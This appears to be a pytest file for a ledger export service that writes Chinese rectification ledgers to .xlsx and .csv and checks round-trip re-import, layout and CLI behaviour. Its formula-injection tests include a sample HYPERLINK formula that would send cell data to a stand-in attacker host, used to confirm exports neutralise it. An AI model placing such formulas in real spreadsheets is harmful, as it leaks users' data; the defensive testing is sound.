"""Exporting the ledger: a real-looking .xlsx, a plain .csv, and both re-import to the same data."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from tests.ledger_files import SAMPLE_DIR, campaign, ledger_snapshot, write_csv
from openpyxl import load_workbook

from portal.services.common.spreadsheet import formula_safe, unquoted
from portal.services.ledger.exporter import LedgerExportError, export_ledger
from portal.services.ledger.importer import import_ledger
from portal.services.ledger.reader import COLUMNS


@pytest.fixture
def sample(session):
    c = campaign(session, "source")
    import_ledger(session, c, SAMPLE_DIR / "sample-ledger.xlsx", actor="test")
    return c


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_reimports_into_a_fresh_campaign_exactly(session, tmp_path, sample, suffix):
    path = tmp_path / f"export{suffix}"
    assert export_ledger(session, sample, path) == 193
    fresh = campaign(session, "copy")

    result = import_ledger(session, fresh, path, actor="test")

    assert result.created == 193
    assert ledger_snapshot(session, fresh) == ledger_snapshot(session, sample)


def test_export_of_a_ledger_with_empty_optional_fields_round_trips(session, tmp_path):
    source = campaign(session, "source")
    rows = [[1, "方面一", 7, "问题", "立行立改", "", "", "", "7-1", "=SUM(A1)", "整改中", "", ""]]
    import_ledger(session, source, write_csv(tmp_path / "in.csv", rows), actor="test")
    for suffix in (".xlsx", ".csv"):
        export_ledger(session, source, tmp_path / f"out{suffix}")
        fresh = campaign(session, f"copy{suffix[1:]}")
        import_ledger(session, fresh, tmp_path / f"out{suffix}", actor="test")
        assert ledger_snapshot(session, fresh) == ledger_snapshot(session, source)


def test_xlsx_export_looks_like_a_real_ledger(session, tmp_path, sample):
    path = tmp_path / "export.xlsx"
    export_ledger(session, sample, path)
    sheet = load_workbook(path).active

    assert sheet.cell(1, 1).value == "巡视反馈意见整改台账"
    assert "A1:M1" in {str(r) for r in sheet.merged_cells.ranges}
    assert [c.value for c in sheet[2]] == list(COLUMNS)
    assert all(c.font.b for c in sheet[2])
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert {f"{col}3:{col}6" for col in "CDEFGH"} <= merged
    assert {"B3:B48", "B49:B126", "B127:B160", "B161:B186", "B187:B195"} <= merged
    assert sheet.cell(3, 12).value == datetime(2020, 11, 24)
    assert sheet.cell(3, 12).number_format == "yyyy-mm-dd"
    assert sheet.cell(3, 4).alignment.wrap_text
    assert sheet.column_dimensions["J"].width == 44
    assert (sheet.cell(3, 11).value, sheet.cell(13, 11).value) == ("已完成", "正在整改")


def test_csv_export_is_utf8_with_bom_and_every_row_carries_its_problem(session, tmp_path, sample):
    path = tmp_path / "export.csv"
    export_ledger(session, sample, path)
    data = path.read_bytes()
    lines = data.decode("utf-8-sig").splitlines()

    assert data.startswith(b"\xef\xbb\xbf")
    assert lines[0] == ",".join(COLUMNS)
    assert len(lines) == 194
    assert all(line.split(",")[1] and line.split(",")[2] for line in lines[1:])
    assert lines[1].startswith("1,针对履行党组核心职能有差距") and ",2020-11-24," in lines[1]


def test_unsupported_export_format_is_refused(session, tmp_path, sample):
    with pytest.raises(LedgerExportError, match="不支持的导出格式“.pdf”"):
        export_ledger(session, sample, tmp_path / "ledger.pdf")


def test_cli_export_writes_the_file(app, runner, session, tmp_path, sample):
    session.commit()
    path = tmp_path / "out.xlsx"
    result = runner.invoke(args=["ledger", "export", str(path), "--campaign", "source"])
    assert result.exit_code == 0, result.output
    assert "193条措施" in result.output
    assert load_workbook(path).active.max_row == 195


def test_cli_export_refuses_an_unknown_format(app, runner, session, tmp_path, sample):
    session.commit()
    result = runner.invoke(args=["ledger", "export", str(tmp_path / "out.txt"), "--campaign", "source"])
    assert result.exit_code == 1
    assert "不支持的导出格式" in result.output


#: text a spreadsheet would run as a formula, in the problem-level and measure-level columns
FORMULAS = {"description": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "goal": "+1+1", "text": "-2+3",
            "progress_note": "@SUM(A1:A9)", "lead_leader": "'=已带引号"}


@pytest.fixture
def formula_ledger(session, tmp_path):
    source = campaign(session, "source")
    rows = [[1, "方面一", 7, FORMULAS["description"], "立行立改", FORMULAS["lead_leader"], "办公室", FORMULAS["goal"],
             "7-1", FORMULAS["text"], "整改中", "", FORMULAS["progress_note"]]]
    quoted = [[formula_safe(cell) if isinstance(cell, str) else cell for cell in row] for row in rows]
    import_ledger(session, source, write_csv(tmp_path / "in.csv", quoted), actor="test")
    assert ledger_snapshot(session, source)["problems"][7][4] == FORMULAS["lead_leader"]
    return source


def test_csv_export_quotes_text_a_spreadsheet_would_run_as_a_formula(session, tmp_path, formula_ledger):
    export_ledger(session, formula_ledger, tmp_path / "out.csv")
    row = next(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8-sig"))))
    assert row["问题描述"] == "'" + FORMULAS["description"]
    assert (row["成效目标"], row["整改措施"], row["进展说明"]) == ("'+1+1", "'-2+3", "'@SUM(A1:A9)")
    assert row["牵头领导"] == "''=已带引号"


def test_xlsx_export_keeps_formula_like_text_as_text(session, tmp_path, formula_ledger):
    export_ledger(session, formula_ledger, tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet["D3"].value == FORMULAS["description"] and sheet["D3"].data_type == "s"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_formula_like_text_round_trips_through_export(session, tmp_path, formula_ledger, suffix):
    export_ledger(session, formula_ledger, tmp_path / f"out{suffix}")
    fresh = campaign(session, "copy")
    import_ledger(session, fresh, tmp_path / f"out{suffix}", actor="test")
    assert ledger_snapshot(session, fresh) == ledger_snapshot(session, formula_ledger)
    assert ledger_snapshot(session, fresh)["problems"][7][1] == FORMULAS["description"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''-1", "'", "'x", "x=1", ""])
def test_quoting_formula_like_text_is_undone_exactly(text):
    assert unquoted(formula_safe(text)) == text
    assert not formula_safe(text).startswith(("=", "+", "-", "@", "\t", "\r"))
